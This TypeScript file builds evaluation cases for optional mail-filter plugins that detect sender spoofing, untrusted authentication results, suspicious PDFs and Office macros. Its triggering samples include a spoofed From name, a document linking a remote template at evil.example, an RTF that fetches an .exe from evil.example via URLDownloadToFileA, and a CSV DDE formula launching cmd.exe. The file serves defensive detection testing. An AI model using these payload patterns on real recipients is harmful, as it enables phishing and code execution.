// Cases of the plugins that nobody loads by default, as data for evals.test.ts.
import { deflateRawSync } from 'node:zlib'
import type { EvalCase } from './evalcases.js'

const trace = `Received: from out.sender.example (out.sender.example [198.51.100.7])
\tby mx.rcpt.example (Postfix) with ESMTP id ABC1234; Mon, 15 Jun 2026 12:00:00 +0000`

function mail(headers: readonly string[], body = 'Hello Bob,\nsee you.\n'): string {
  const named = new Map([
    ['From', 'Anna <anna@sender.example>'],
    ['To', 'Bob <bob@rcpt.example>'],
    ['Subject', 'Hello there'],
    ['Date', 'Mon, 15 Jun 2026 12:00:00 +0000'],
    ['Message-ID', '<m1@sender.example>'],
  ])
  for (const header of headers)
    named.set(header.slice(0, header.indexOf(':')), header.slice(header.indexOf(':') + 2))
  return `${trace}\n${[...named].map(([name, value]) => `${name}: ${value}\n`).join('')}\n${body}`
}

/** A mail with one attachment. */
function attached(type: string, name: string, data: Buffer | string, text = 'see attachment\n'): string {
  const bytes = typeof data === 'string' ? Buffer.from(data, 'latin1') : data
  const lines = bytes.toString('base64').replace(/.{76}/g, '$&\n')
  return mail(
    ['MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="B"'],
    `--B\nContent-Type: text/plain\n\n${text}\n--B\nContent-Type: ${type}; name="${name}"\nContent-Transfer-Encoding: base64\n` +
      `Content-Disposition: attachment; filename="${name}"\n\n${lines}\n--B--\n`,
  )
}

interface Packed {
  readonly name: string
  readonly data: string
  readonly encrypted?: boolean
}

/** A ZIP archive, deflated. */
export function zip(files: readonly Packed[]): Buffer {
  const locals: Buffer[] = []
  const central: Buffer[] = []
  let offset = 0
  for (const { name, data, encrypted = false } of files) {
    const raw = Buffer.from(data, 'latin1')
    const packed = deflateRawSync(raw)
    const common = Buffer.alloc(26)
    common.writeUInt16LE(20, 0)
    common.writeUInt16LE(encrypted ? 1 : 0, 2)
    common.writeUInt16LE(8, 4)
    common.writeUInt32LE(crc32(raw), 10)
    common.writeUInt32LE(packed.length, 14)
    common.writeUInt32LE(raw.length, 18)
    common.writeUInt16LE(name.length, 22)
    const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), common, Buffer.from(name), packed])
    const entry = Buffer.alloc(14)
    entry.writeUInt32LE(offset, 10)
    central.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\0', 'latin1'), common, entry, Buffer.from(name)]))
    locals.push(local)
    offset += local.length
  }
  const directory = Buffer.concat(central)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(files.length, 8)
  end.writeUInt16LE(files.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, directory, end])
}

function crc32(bytes: Buffer): number {
  let sum = ~0
  for (const byte of bytes) {
    sum ^= byte
    for (let bit = 0; bit < 8; bit++) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0)
  }
  return ~sum >>> 0
}

const types = { name: '[Content_Types].xml', data: '<Types></Types>' }
const pdf = `%PDF-1.4
1 0 obj
<</Title (Invoice \\(2026\\))/Author <FEFF0045>/Producer (maker 1.0)>>
2 0 obj <</Subtype /Image/Width 800/Height 600 >>
/Encrypt 3 0 R
trailer
`

export const optionalCases: readonly EvalCase[] = [
  {
    what: 'FromNameSpoof: another address in the name',
    rules: `fns_add_addrlist (shop) *@shop.example *@shop.test
header HIT_SPOOF eval:check_fromname_spoof()
header HIT_DIFFERENT eval:check_fromname_different()
header HIT_DOMAIN eval:check_fromname_domain_differ()
header HIT_OWNER eval:check_fromname_owners_differ()
header HIT_TO eval:check_fromname_equals_to()
header HIT_REPLY eval:check_fromname_equals_replyto()`,
    hit: mail(['From: "bob@rcpt.example" <x@evil.test>', 'Reply-To: bob@rcpt.example']),
    miss: mail(['From: "anna@sender.example" <anna@sender.example>']),
  },
  {
    what: 'FromNameSpoof: addresses of one owner, and a name that holds much else',
    rules: `fns_add_addrlist (shop) *@shop.example *@shop.test
header HIT_EMAIL eval:check_fromname_contains_email()
header HIT_DIFFERENT eval:check_fromname_different()
header NO_OWNER eval:check_fromname_owners_differ()`,
    hit: mail(['From: "info@shop.example" <x@shop.test>']),
    miss: mail(['From: Anna <anna@sender.example>']),
  },
  {
    what: 'AuthRes: results of trusted servers',
    rules: `trusted_networks 198.51.100.0/24
authres_networks all
authres_trusted_authserv mx.rcpt.example
header HIT_SPF eval:check_authres_result('spf', 'fail')
header HIT_DKIM eval:check_authres_result('dkim', 'pass')
header HIT_NONE eval:check_authres_result('dmarc', 'missing')`,
    hit: mail([
      'Authentication-Results: mx.rcpt.example (x (y)) 1; spf=fail reason="no (way)" smtp.mailfrom=a@b.example;\n\tdkim=pass header.d=b.example',
    ]),
    miss: mail(['Authentication-Results: mx.rcpt.example; dmarc=pass header.from=b.example; spf=pass']),
  },
  {
    what: 'AuthRes: servers that are not trusted say nothing',
    rules: `authres_networks all
authres_ignored_authserv evil.example
header HIT eval:check_authres_result('spf', 'pass')`,
    hit: mail(['Authentication-Results: good.example; spf=pass']),
    miss: mail(['Authentication-Results: evil.example; spf=pass']),
  },
  {
    what: 'PDFInfo',
    rules: `body HIT_COUNT eval:pdf_count('1','1')
body HIT_IMAGES eval:pdf_image_count('1')
body HIT_PIXELS eval:pdf_pixel_coverage('480000','480000')
body HIT_EXACT eval:pdf_image_size_exact('600','800')
body HIT_RANGE eval:pdf_image_size_range('500','700','600','800')
body HIT_NAMED eval:pdf_named('invoice.pdf')
body HIT_REGEX eval:pdf_name_regex('/^INVOICE/i')
body HIT_ENCRYPTED eval:pdf_is_encrypted()
body HIT_EMPTY eval:pdf_is_empty_body('20')
body HIT_RATIO eval:pdf_image_to_text_ratio('0.000', '0.005')
body HIT_TITLE eval:pdf_match_details('title', '/^Invoice \\(2026\\)$/')
body HIT_PRODUCER eval:pdf_match_details('producer', '/maker/')`,
    hit: attached('application/pdf', 'invoice.pdf', pdf),
    miss: attached('application/octet-stream', 'invoice.txt', pdf),
  },
  {
    what: 'OLEVBMacro: macros in packed files, links to other places',
    rules: `body HIT_MACRO eval:check_olemacro()
body HIT_MALICE eval:check_olemacro_malice()
body HIT_OBJECT eval:check_oleobject()
body HIT_REDIRECT eval:check_olemacro_redirect_uri()`,
    hit: attached(
      'application/octet-stream',
      'report.docm',
      zip([
        types,
        { name: 'word/vbaProject.bin', data: 'x Sub Document_Open() x' },
        { name: 'xl/embeddings/a.bin', data: 'x' },
        {
          name: 'word/_rels/document.xml.rels',
          data: '<Relationship Id="1" Target="http://evil.example/t.dotm" TargetMode="External"/>',
        },
      ]),
    ),
    miss: attached(
      'application/octet-stream',
      'report.docx',
      zip([types, { name: 'word/document.xml', data: 'x' }]),
    ),
  },
  {
    what: 'OLEVBMacro: inside an archive, with a password',
    rules: `body HIT_MACRO eval:check_olemacro()
body HIT_PASSWORD eval:check_olemacro_zip_password()`,
    hit: attached('application/zip', 'a.zip', zip([{ name: 'a.docm', data: 'x', encrypted: true }])),
    miss: attached('application/zip', 'a.zip', zip([{ name: 'a.txt', data: 'x' }])),
  },
  {
    what: 'OLEVBMacro: old formats, encryption',
    rules: `body HIT_MACRO eval:check_olemacro()
body HIT_MALICE eval:check_olemacro_malice()
body HIT_ENCRYPTED eval:check_olemacro_encrypted()`,
    hit: attached(
      'application/msword',
      'a.doc',
      `\xd0\xcf\x11\xe0${'\0'.repeat(0x204)}\xfe\0Attribut\0 AutoOpen`,
    ),
    miss: attached('application/msword', 'a.doc', 'plain text'),
  },
  {
    what: 'OLEVBMacro: objects in RTF, programs fetched, spreadsheets that start programs',
    rules: `body HIT_MACRO eval:check_olemacro()
body HIT_EXE eval:check_olemacro_download_exe()`,
    hit: attached(
      'application/rtf',
      'a.rtf',
      `{\\rtf1 {\\objemb} \0http://evil.example/some/path/to/a/file.exe\0 URLDownloadToFileA}`,
    ),
    miss: attached('application/rtf', 'a.rtf', '{\\rtf1 hello}'),
  },
  {
    what: 'OLEVBMacro: csv',
    rules: 'body HIT eval:check_olemacro_csv()',
    hit: attached(
      'application/octet-stream',
      'a.csv',
      "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe' /c calc",
    ),
    miss: attached('application/octet-stream', 'a.csv', 'a;b;c'),
  },
  {
    what: 'OLEVBMacro: Office files under another name, only when asked for',
    rules: 'olemacro_extended_scan 1\nbody HIT eval:check_olemacro_renamed()',
    hit: attached('application/octet-stream', 'a.dat', '\xd0\xcf\x11\xe0 something'),
    miss: attached('application/octet-stream', 'a.dat', 'something'),
  },
]
